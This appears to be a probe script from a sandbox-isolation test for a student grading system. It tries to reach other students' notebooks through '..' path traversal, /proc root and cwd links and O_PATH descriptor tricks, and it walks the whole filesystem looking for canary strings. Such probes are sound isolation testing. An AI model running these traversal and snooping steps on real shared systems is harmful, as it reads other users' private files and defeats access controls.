"""Looks for other students' notebooks: by their names, by `..` from everywhere, and by a walk over the whole tree."""

SUCCESS = "a canary in the outputs"

# %%
import os

for student in ("0-neighbour", "m-neighbour", "z-neighbour"):
    for start in ("", "/data", "/proc/self/cwd", "/proc/1/cwd", "/proc/self/root", "/tmp", "/home/student"):
        for up in ("..", "../..", "../../.."):
            for top in (f"{start}/{up}@SUBMITTED@/reading", f"{start}/{up}", "@SUBMITTED@/reading"):
                try:
                    print(open(f"{top}/{student}/target/target.ipynb").read())
                except OSError as error:
                    last = error
print(last)

# %%
opened, found, skipped = 0, [], ("/proc", "/sys", "/usr", "/dev", "/lib", "/lib64", "/bin", "/sbin")
tops = ("/", "/tmp", "/home", "/data", "/var", "/work", "/root", "/opt", "/srv", "/mnt", "/run", "/etc", "@HOME@")
for folder, folders, names in (entry for top in tops for entry in os.walk(top)):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in skipped and name != "site-packages"]
    for name in names:
        if name.endswith((".ipynb", ".db", ".npz", "checks.py", "probes.py", ".csv", ".json", ".toml", ".txt")):
            found.append(os.path.join(folder, name))
for path in found[:2000]:
    try:
        text = open(path, errors="replace").read(1 << 20)
        opened += 1
        if "CAN" + "ARY-" in text or "neighbour" in text or path.endswith("ipynb"):
            print(path, text[:2000])
    except OSError as error:
        print(error)
print(opened, "of", len(found), "read")

# %%
root = os.open("/", os.O_PATH)
for _ in range(5):
    root = os.open("..", os.O_PATH, dir_fd=root)
for path in (
    "@SUBMITTED@",
    "@HOME@",
    "@SUBMITTED@/reading/m-neighbour/target/target.ipynb",
    ".",
    "home",
    "tmp",
    "root",
):
    try:
        held = os.open(path.lstrip("/"), os.O_PATH, dir_fd=root)
        print(path, os.fstat(held).st_ino, os.listdir(f"/proc/self/fd/{held}"))
        print(os.listdir(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)))
    except OSError as error:
        print(error)
print("attempted")
